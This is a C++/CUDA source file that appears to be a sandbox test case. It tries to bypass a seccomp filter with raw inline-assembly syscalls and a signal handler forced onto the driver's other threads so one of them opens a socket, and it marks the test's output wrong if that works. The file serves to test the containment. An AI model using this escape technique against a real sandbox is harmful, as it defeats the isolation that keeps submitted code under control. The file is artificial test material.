// Way: a signal handler that runs on a thread of the driver and opens a socket
// Walls: seccomp
//
// Catalog: wall
// Task: double
// Expect: held

#include <cuda_runtime.h>

static __global__ void twice(const float* x, float* y, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = 2 * x[i];
}

/// A right answer, unless the attack worked.
static void tell(bool through, const float* x, float* y, int n) {
  twice<<<(n + 255) / 256, 256>>>(x, y, n);
  if (through) cudaMemset(y, 0xff, sizeof *y);
}

/// A system call without the library, whose functions the build refuses.
static long call(long number, long a = 0, long b = 0, long c = 0, long d = 0) {
  register long fourth asm("r10") = d;
  asm volatile("syscall"
               : "+a"(number)
               : "D"(a), "S"(b), "d"(c), "r"(fourth)
               : "rcx", "r11", "memory");
  return number;
}

static volatile int opened = 0;

extern "C" void leave_handler();
asm("leave_handler: mov $15, %eax\n syscall");

static void on_signal(int) {
  constexpr long kSocket = 41, kInternet = 2, kStream = 1;
  if (call(kSocket, kInternet, kStream) >= 0) opened = 1;
}

extern "C" void solve(const float* x, float* y, int n) {
  constexpr long kOpen = 2, kSigaction = 13, kNanosleep = 35, kGetpid = 39, kGetdents = 217,
                 kTgkill = 234, kUser1 = 10;
  struct {
    void (*handler)(int);
    unsigned long flags;
    void (*restorer)();
    unsigned long mask;
  } const action{on_signal, 0x04000000, leave_handler, 0};
  call(kSigaction, kUser1, reinterpret_cast<long>(&action), 0, 8);
  const long process = call(kGetpid);
  static char entries[65536];
  const long folder = call(kOpen, reinterpret_cast<long>("/proc/self/task"));
  const long bytes = call(kGetdents, folder, reinterpret_cast<long>(entries), sizeof entries);
  for (long at = 0; at < bytes; at += *reinterpret_cast<unsigned short*>(entries + at + 16)) {
    long thread = 0;
    for (const char* digit = entries + at + 19; *digit >= '0' && *digit <= '9'; ++digit)
      thread = 10 * thread + *digit - '0';
    if (thread > 0 && thread != process) call(kTgkill, process, thread, kUser1);
  }
  const long pause[2] = {0, 100'000'000};
  call(kNanosleep, reinterpret_cast<long>(pause));
  tell(opened != 0, x, y, n);
}
